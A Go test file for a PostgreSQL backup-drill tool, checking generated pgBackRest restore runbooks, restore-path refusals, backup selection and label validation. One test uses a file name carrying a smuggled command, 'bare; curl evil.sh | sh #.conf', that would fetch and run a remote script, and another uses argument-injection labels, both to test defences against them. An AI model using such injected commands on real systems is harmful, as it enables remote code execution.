package backups

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/ward-monitoring/ward/config"
)

func TestRunbook(t *testing.T) {
	dir := t.TempDir()
	conf := filepath.Join(dir, "pgbackrest.conf")
	if err := os.WriteFile(conf, []byte("[global]\nrepo1-path=/r\npg1-port=5433\n\n[other]\npg1-path=/srv/other\n\n[main]\npg1-path = /var/lib/postgresql/15/main\npg1-socket-path=/run/postgresql\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	d := newDrills(drillDeps{})
	d.apply(config.Backups{RunAs: "postgres", Stanzas: []config.BackupStanza{{Name: "main", Config: conf, PGBin: "/usr/lib/postgresql/15/bin"}}})
	target := time.Date(2026, 3, 14, 9, 26, 53, 500000000, time.FixedZone("CET", 3600))
	cases := []struct {
		name   string
		target time.Time
		want   []string
		absent []string
	}{
		{name: "latest", want: []string{
			"recovering to the latest point",
			"sudo -u postgres /usr/lib/postgresql/15/bin/pg_ctl -D /var/lib/postgresql/15/main -m fast -w stop\n",
			"sudo -u postgres pgbackrest --config=" + conf + " --stanza=main --delta restore\n",
			"sudo -u postgres /usr/lib/postgresql/15/bin/pg_ctl -D /var/lib/postgresql/15/main -w -t 3600 start\n",
			"sudo -u postgres psql -h /run/postgresql -p 5433 -Atc 'SELECT pg_is_in_recovery()'\n",
		}, absent: []string{"--type=time", "--target"}},
		{name: "time", target: target, want: []string{
			"recovering to 2026-03-14 08:26:53.5+00 (UTC)",
			"sudo -u postgres pgbackrest --config=" + conf + " --stanza=main --delta --type=time '--target=2026-03-14 08:26:53.5+00' --target-action=promote restore\n",
		}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got, err := d.runbook("main", c.target)
			if err != nil {
				t.Fatal(err)
			}
			for _, w := range c.want {
				if !strings.Contains(got, w) {
					t.Errorf("runbook lacks %q:\n%s", w, got)
				}
			}
			for _, a := range c.absent {
				if strings.Contains(got, a) {
					t.Errorf("runbook has %q:\n%s", a, got)
				}
			}
		})
	}
	if _, err := d.runbook("nope", time.Time{}); !errors.Is(err, ErrNotFound) {
		t.Errorf("unknown stanza: %v", err)
	}
	// No pg1-path and no data_dirs: the guess is flagged on a comment
	// line of its own, and every command stays whole; a config path with
	// shell syntax stays inside quotes.
	bare := filepath.Join(dir, "bare; curl evil.sh | sh #.conf")
	if err := os.WriteFile(bare, []byte("[main]\nrepo1-path=/r\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	d.apply(config.Backups{RunAs: "postgres", Stanzas: []config.BackupStanza{{Name: "main", Config: bare, PGBin: "/usr/lib/postgresql/15/bin"}}})
	got, err := d.runbook("main", time.Time{})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(got, "\n# CHECK: no pg1-path found in "+bare+" and no data_dirs set") ||
		!strings.Contains(got, "pg_ctl -D /var/lib/postgresql/15/main -m fast -w stop\n") ||
		!strings.Contains(got, "pgbackrest --config="+shellQuote(bare)+" --stanza=main --delta restore\n") {
		t.Errorf("runbook without pg1-path:\n%s", got)
	}
	for _, line := range strings.Split(got, "\n") {
		if !strings.HasPrefix(line, "#") && strings.Contains(strings.ReplaceAll(line, shellQuote(bare), ""), "#") {
			t.Errorf("line %q: a command cut by a comment or injected", line)
		}
	}
	if got := shellQuote("it's"); got != `'it'\''s'` {
		t.Errorf("shellQuote = %s", got)
	}
}

func TestCheckRestorePath(t *testing.T) {
	root := t.TempDir()
	prod := filepath.Join(root, "pg", "main")
	if err := os.MkdirAll(prod, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(root, "pg"), filepath.Join(root, "alias")); err != nil {
		t.Fatal(err)
	}
	prodR, _ := resolvePath(prod)
	cases := []struct {
		path    string
		refused bool
	}{
		{prod, true},
		{prod + "/", true},
		{filepath.Join(prod, "base"), true},
		{filepath.Join(prod, "not", "yet", "made"), true},
		{filepath.Join(root, "alias", "main", "x"), true},
		{filepath.Join(root, "alias", "..", "pg", "main"), true},
		{filepath.Join(root, "pg"), true}, // holds production
		{root, true},
		{"/", true},
		{"relative/dir", true},
		{filepath.Join(root, "pg", "main2"), false}, // a prefix as a string, not a parent
		{filepath.Join(root, "alias", "other"), false},
		{filepath.Join(root, "scratch", "a"), false},
	}
	for _, c := range cases {
		_, err := checkRestorePath(c.path, []string{prodR})
		if c.refused != (err != nil) || (err != nil && !errors.Is(err, ErrRefused)) {
			t.Errorf("%s: err %v, want refused %v", c.path, err, c.refused)
		}
	}
	long := "/" + strings.Repeat("x", maxSocketDir)
	if _, err := checkRestorePath(long, []string{prodR}); err == nil || !strings.Contains(err.Error(), "socket") {
		t.Errorf("a path too long for the socket: %v", err)
	}
}

func TestProductionDirs(t *testing.T) {
	dir := t.TempDir()
	conf := filepath.Join(dir, "pgbackrest.conf")
	inc := filepath.Join(dir, "conf.d")
	if err := os.Mkdir(inc, 0o700); err != nil {
		t.Fatal(err)
	}
	write := func(p, s string) {
		if err := os.WriteFile(p, []byte(s), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write(conf, "[global]\nconfig-include-path="+inc+"\n# pg9-path=/commented\n[a]\npg1-path=/srv/a\npg2-path = /srv/a2\n[b]\npg1-path=/srv/b\nrepo1-path=/srv/repo\n")
	write(filepath.Join(inc, "c.conf"), "[c]\npg1-path=/srv/c\n")
	got, err := productionDirs(config.BackupStanza{Config: conf, DataDirs: []string{"/srv/extra"}})
	if err != nil {
		t.Fatal(err)
	}
	want := "/srv/extra /srv/a /srv/a2 /srv/b /srv/c"
	if strings.Join(got, " ") != want {
		t.Errorf("production dirs %v, want %s", got, want)
	}
	if _, err := productionDirs(config.BackupStanza{Config: filepath.Join(dir, "missing.conf")}); err == nil {
		t.Error("a missing pgbackrest.conf must refuse: production is unknown")
	}
	write(conf, "[global]\nrepo1-path=/r\n")
	if _, err := productionDirs(config.BackupStanza{Config: conf}); err == nil {
		t.Error("a config with no pg1-path and no data_dirs must refuse")
	}
}

func TestPickBackup(t *testing.T) {
	info := `[{"name":"main","archive":[{"id":"15-1","min":"000000010000000000000003","max":"000000010000000000000009"}],
	"backup":[
	 {"label":"F1","type":"full","error":false,"timestamp":{"start":100,"stop":110},"archive":{"start":"000000010000000000000001","stop":"000000010000000000000001"},"info":{"size":10}},
	 {"label":"F2","type":"full","error":false,"timestamp":{"start":200,"stop":210},"archive":{"start":"000000010000000000000004","stop":"000000010000000000000004"},"info":{"size":20}},
	 {"label":"F3","type":"full","error":true,"timestamp":{"start":300,"stop":310},"archive":{"start":"000000010000000000000006","stop":"000000010000000000000006"},"info":{"size":30}},
	 {"label":"F4","type":"incr","error":false,"timestamp":{"start":400,"stop":410},"archive":{"start":"00000001000000000000000A","stop":"00000001000000000000000A"},"info":{"size":40}}]}]`
	s, err := parseInfo([]byte(info), "main")
	if err != nil {
		t.Fatal(err)
	}
	bs := s.Backups
	cases := []struct {
		label  string
		target int64
		want   string
		err    error
	}{
		{want: "F2"}, // F4's WAL is not archived, F3 has checksum errors
		{label: "F3", want: "F3"},
		{label: "F1", err: ErrRefused},
		{label: "F9", err: ErrNotFound},
		{target: 250, want: "F2"},
		{target: 205, err: ErrRefused},
		{label: "F3", target: 250, err: ErrRefused},
	}
	for _, c := range cases {
		var target time.Time
		if c.target > 0 {
			target = time.Unix(c.target, 0)
		}
		b, err := pickBackup(bs, c.label, target)
		if (c.err != nil && !errors.Is(err, c.err)) || (c.err == nil && (err != nil || b.Label != c.want)) {
			t.Errorf("label %q target %d: %s %v, want %s %v", c.label, c.target, b.Label, err, c.want, c.err)
		}
	}
}

func TestCheckRunAs(t *testing.T) {
	if err := checkRunAs("root"); !errors.Is(err, ErrRefused) {
		t.Errorf("run_as root: %v", err)
	}
	if err := checkRunAs("no-such-user-ward"); !errors.Is(err, ErrRefused) {
		t.Errorf("unknown run_as: %v", err)
	}
	err := checkRunAs("")
	if os.Geteuid() == 0 && !errors.Is(err, ErrRefused) {
		t.Errorf("ward as root without run_as: %v", err)
	}
	if os.Geteuid() != 0 && err != nil {
		t.Errorf("ward as itself without run_as: %v", err)
	}
}

func TestDrillSchedules(t *testing.T) {
	got := drillSchedules(config.Backups{Stanzas: []config.BackupStanza{
		{Name: "a"},
		{Name: "b", Drill: config.BackupDrill{Schedule: "off"}},
		{Name: "c", TimeZone: "Europe/Berlin", Drill: config.BackupDrill{Schedule: "0 3 1 * *"}},
	}})
	want := []drillSchedule{{Stanza: "a", Spec: "0 4 * * 0", TimeZone: "UTC"}, {Stanza: "c", Spec: "0 3 1 * *", TimeZone: "Europe/Berlin"}}
	if len(got) != len(want) || got[0] != want[0] || got[1] != want[1] {
		t.Errorf("schedules %+v, want %+v", got, want)
	}
}

func TestDrillLabelBounded(t *testing.T) {
	d := newDrills(drillDeps{})
	for _, l := range []string{"--help", "20260314-020000F --delta", strings.Repeat("9", 100), "20260314-020000X"} {
		if _, err := d.start(DrillRequest{Stanza: "main", Label: l}, TriggerManual, time.Time{}); !errors.Is(err, ErrRefused) || strings.Contains(err.Error(), l) {
			t.Errorf("label %q: %v; want refused without echoing it", l, err)
		}
	}
	if _, err := d.start(DrillRequest{Stanza: "main", Label: "20260314-020000F_20260315-020000I"}, TriggerManual, time.Time{}); !errors.Is(err, ErrNotFound) {
		t.Errorf("a well-formed label reaches the stanza lookup: %v", err)
	}
}
